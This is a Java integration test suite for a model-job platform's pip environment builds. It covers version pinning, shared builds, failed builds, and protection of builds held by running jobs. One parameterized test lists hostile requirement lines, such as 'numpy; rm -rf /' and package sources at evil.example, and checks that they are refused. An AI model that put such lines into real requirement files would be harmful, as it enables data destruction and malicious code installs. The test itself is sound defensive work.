package dev.modelyard.jobs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.modelyard.IntegrationTest;
import dev.modelyard.TestUsers;
import dev.modelyard.artifacts.ArtifactService;
import dev.modelyard.artifacts.StagedUpload;
import dev.modelyard.base.ConflictException;
import dev.modelyard.base.InvalidInputException;
import dev.modelyard.models.ModelTestData;
import dev.modelyard.security.AppRole;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Environments built with the host's pip from this machine's package index (issue 15). pip builds are slow on two
 * cores, so the tests share the sample's environment (scikit-learn, built once per test JVM) and otherwise build
 * small ones.
 */
@IntegrationTest
@Timeout(600)
class EnvironmentBuildTest {

    /** The sample's pin; Debian's python3-sklearn is 1.2.x. */
    static final String SKLEARN = "1.6.1";
    private static final Duration LIMIT = Duration.ofMinutes(8);
    private static final Path SAMPLE = Path.of("samples/diabetes");

    @Autowired
    EnvironmentBuildService builds;
    @Autowired
    EnvironmentService environments;
    @Autowired
    JobService jobs;

    @Autowired
    dev.modelyard.jobs.JobQueryService queries;

    @Autowired
    dev.modelyard.jobs.JobOutputService outputService;

    @Autowired
    dev.modelyard.jobs.JobLogService logs;
    @Autowired
    JobEvents events;
    @Autowired
    ArtifactService artifacts;
    @Autowired
    JdbcTemplate jdbc;

    static <T> T as(AppRole role, Supplier<T> action) {
        AtomicReference<T> out = new AtomicReference<>();
        TestUsers.runAs("envy", role, () -> out.set(action.get()));
        return out.get();
    }

    /** The sample's environment from its own requirements.txt: created by the first test that needs it. */
    static synchronized EnvironmentDetails sampleEnvironment(EnvironmentBuildService builds, EnvironmentService environments)
            throws Exception {
        String requirements = Files.readString(SAMPLE.resolve("requirements.txt"));
        try {
            return as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("diabetes",
                    "the sample's own requirements.txt", null, requirements, null, Map.of())));
        } catch (ConflictException exists) {
            return as(AppRole.READER, () -> environments.resolve("diabetes@latest"));
        }
    }

    private JobDetails submit(String command, String environment, Map<String, String> code) {
        return as(AppRole.CONTRIBUTOR, () -> {
            try (StagedUpload staged = ModelTestData.stageText(artifacts, code)) {
                return jobs.submit(new SubmitJobCommand(command, environment, "local", null, "environments", null,
                        Map.of(), Map.of(), 300), staged);
            }
        });
    }

    private JobDetails awaitEnd(JobDetails job) throws InterruptedException {
        return JobWaiter.until(queries, events, job.name(), JobStatus::isTerminal, LIMIT);
    }

    private String log(String name) {
        return JobWaiter.log(logs, name);
    }

    private int buildsOf(String reference) {
        EnvironmentDetails env = as(AppRole.READER, () -> environments.resolve(reference));
        return jdbc.queryForObject("select count(*) from environment_build where build_hash = ?", Integer.class,
                env.build().hash());
    }

    @Test
    void a_job_in_a_built_environment_imports_the_index_version_not_debians() throws Exception {
        EnvironmentDetails env = sampleEnvironment(builds, environments);

        JobDetails done = awaitEnd(submit("python version.py", env.reference(), Map.of("version.py", """
                import sys, sklearn
                print("sklearn", sklearn.__version__)
                print("executable", sys.executable)
                """)));

        String log = log(done.name());
        assertThat(done.status()).as(log).isEqualTo(JobStatus.COMPLETED);
        assertThat(log).contains("sklearn " + SKLEARN).doesNotContain("sklearn 1.2.");
        EnvironmentDetails ready = as(AppRole.READER, () -> environments.resolve(env.reference()));
        assertThat(ready.status()).isEqualTo(EnvironmentBuildStatus.READY);
        assertThat(log).contains("executable " + Path.of(ready.spec().interpreter()).getParent());
        assertThat(ready.build().sizeBytes()).isPositive();
        assertThat(as(AppRole.READER, () -> builds.freeze(env.reference()))).contains("scikit-learn==" + SKLEARN);
        var used = as(AppRole.READER, () -> builds.ofJob(done.name())).orElseThrow();
        assertThat(used.environment()).isEqualTo(env.reference());
        assertThat(used.packages()).contains("scikit-learn==" + SKLEARN).contains("numpy==");
        assertThat(as(AppRole.READER, () -> builds.jobs(env.reference())))
                .extracting(EnvironmentBuildService.EnvironmentJob::name).contains(done.name());
    }

    @Test
    void the_sample_trains_in_an_environment_built_from_its_own_requirements_and_the_second_job_builds_nothing()
            throws Exception {
        EnvironmentDetails env = sampleEnvironment(builds, environments);
        Map<String, String> code = Map.of("train.py", Files.readString(SAMPLE.resolve("train.py")),
                "diabetes.csv", Files.readString(SAMPLE.resolve("diabetes.csv")));

        JobDetails first = awaitEnd(submit("python train.py --training_data diabetes.csv", "diabetes@latest", code));
        int buildsAfterFirst = buildsOf(env.reference());
        JobDetails second = awaitEnd(submit("python train.py --training_data diabetes.csv", "diabetes@latest", code));

        assertThat(first.status()).as(log(first.name())).isEqualTo(JobStatus.COMPLETED);
        assertThat(second.status()).as(log(second.name())).isEqualTo(JobStatus.COMPLETED);
        assertThat(log(first.name())).containsPattern("(?m)^Accuracy: 0\\.\\d+$");
        assertThat(log(second.name())).doesNotContain("waiting for environment");
        assertThat(buildsOf(env.reference())).isEqualTo(buildsAfterFirst).isEqualTo(1);
        var outputs = as(AppRole.READER, () -> outputService.outputs(second.name()));
        assertThat(outputs).extracting(dev.modelyard.artifacts.ArtifactFile::path).contains("outputs/model/requirements.txt");
    }

    @Test
    void two_jobs_naming_an_environment_that_is_not_built_share_one_build() throws Exception {
        EnvironmentDetails env = as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("tpc", null,
                null, "threadpoolctl==3.7.0\n", null, Map.of("GREETING", "hi"))));
        Map<String, String> code = Map.of("v.py", "import os, threadpoolctl\nprint('tpc', threadpoolctl.__version__,"
                + " os.environ['GREETING'])\n");
        JobDetails warmup = awaitEnd(submit("python v.py", env.reference(), code));
        assertThat(warmup.status()).as(log(warmup.name())).isEqualTo(JobStatus.COMPLETED);
        as(AppRole.CONTRIBUTOR, () -> builds.deleteBuild(env.reference()));
        assertThat(as(AppRole.READER, () -> environments.resolve(env.reference())).status())
                .isEqualTo(EnvironmentBuildStatus.REMOVED);

        JobDetails a = submit("python v.py", env.reference(), code);
        JobDetails b = submit("python v.py", env.reference(), code);
        a = awaitEnd(a);
        b = awaitEnd(b);

        assertThat(a.status()).as(log(a.name())).isEqualTo(JobStatus.COMPLETED);
        assertThat(b.status()).as(log(b.name())).isEqualTo(JobStatus.COMPLETED);
        assertThat(log(a.name())).contains("tpc 3.7.0 hi");
        assertThat(buildsOf(env.reference())).isEqualTo(2);
        long usedA = as(AppRole.READER, () -> builds.ofJob(warmup.name())).orElseThrow().buildId();
        String nameA = a.name();
        String nameB = b.name();
        long builtA = as(AppRole.READER, () -> builds.ofJob(nameA)).orElseThrow().buildId();
        long builtB = as(AppRole.READER, () -> builds.ofJob(nameB)).orElseThrow().buildId();
        assertThat(builtA).isEqualTo(builtB).isNotEqualTo(usedA);
    }

    @Test
    void a_requirement_that_does_not_exist_fails_the_build_with_pips_message_and_the_waiting_job_with_it()
            throws Exception {
        EnvironmentDetails env = as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("broken", null,
                null, "modelyard-no-such-package==1.0\n", null, Map.of())));
        JobDetails job = awaitEnd(submit("python -c pass", env.reference(), Map.of("x.txt", "x")));

        EnvironmentDetails failed = as(AppRole.READER, () -> environments.resolve(env.reference()));
        assertThat(failed.status()).isEqualTo(EnvironmentBuildStatus.FAILED);
        assertThat(failed.build().error()).contains("No matching distribution found for modelyard-no-such-package");
        assertThat(job.status()).isEqualTo(JobStatus.FAILED);
        assertThat(job.statusReason()).contains("broken:1 failed to build")
                .contains("No matching distribution found for modelyard-no-such-package");
        assertThat(log(job.name())).contains("No matching distribution found");
        String buildLog = new String(as(AppRole.READER, () -> builds.log(env.reference(), 0, 1 << 20)).bytes(),
                StandardCharsets.UTF_8);
        assertThat(buildLog).contains("modelyard-no-such-package");
    }

    @ParameterizedTest
    @ValueSource(strings = {"--index-url http://evil.example/simple", "-e /etc", "numpy; rm -rf /",
            "evil @ https://evil.example/evil.whl", "--extra-index-url=http://evil.example"})
    void hostile_requirement_lines_are_refused_before_anything_is_created_or_built(String hostile) {
        Integer before = jdbc.queryForObject("select count(*) from environment_build", Integer.class);

        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("hostile",
                null, null, "numpy\n" + hostile + "\n", null, Map.of()))))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("line 2")
                .hasMessageContaining(hostile);

        assertThat(jdbc.queryForObject("select count(*) from environment_build", Integer.class)).isEqualTo(before);
        assertThat(jdbc.queryForObject("select count(*) from environment where name = 'hostile'", Integer.class)).isZero();
    }

    @Test
    void an_identical_spec_says_so_instead_of_building_again_and_conda_packages_are_refused() {
        as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("twice", null, null, "", null,
                Map.of("A", "1"))));

        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("twice",
                "other words", null, "# nothing\n", null, Map.of("A", "1")))))
                .isInstanceOf(ConflictException.class).hasMessageContaining("twice:1 already has exactly this spec");
        EnvironmentDetails second = as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("twice",
                null, null, "", null, Map.of("A", "2"))));
        assertThat(second.version()).isEqualTo(2);
        assertThat(second.build().hash()).isEqualTo(as(AppRole.READER, () -> environments.resolve("twice:1")).build().hash());

        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("conda",
                null, null, null, "dependencies:\n  - python=3\n  - numpy=1.26\n", Map.of()))))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("numpy=1.26")
                .hasMessageContaining("no conda solver");
        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("other",
                null, "/bin/sh", "", null, Map.of()))))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("not a base interpreter");
        assertThat(List.of()).isEmpty();
    }

    @Test
    void a_build_a_running_job_holds_is_neither_deleted_nor_rebuilt_until_the_job_ends() throws Exception {
        EnvironmentDetails env = as(AppRole.CONTRIBUTOR, () -> builds.create(new CreateEnvironmentCommand("held", null,
                null, "", null, Map.of())));
        JobDetails job = submit("python hold.py", env.reference(), Map.of("hold.py", "import time\ntime.sleep(120)\n"));
        JobWaiter.until(queries, events, job.name(), s -> s == JobStatus.RUNNING, LIMIT);

        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.deleteBuild(env.reference())))
                .isInstanceOf(ConflictException.class).hasMessageContaining("running job");
        assertThatThrownBy(() -> as(AppRole.CONTRIBUTOR, () -> builds.rebuild(env.reference())))
                .isInstanceOf(ConflictException.class).hasMessageContaining("running job");
        assertThat(Path.of(as(AppRole.READER, () -> environments.resolve(env.reference())).spec().interpreter()))
                .exists();

        as(AppRole.CONTRIBUTOR, () -> jobs.cancel(job.name()));
        awaitEnd(job);
        EnvironmentDetails removed = as(AppRole.CONTRIBUTOR, () -> builds.deleteBuild(env.reference()));
        assertThat(removed.status()).isEqualTo(EnvironmentBuildStatus.REMOVED);
        assertThat(Path.of(removed.spec().interpreter()).getParent().getParent()).doesNotExist();
    }
}
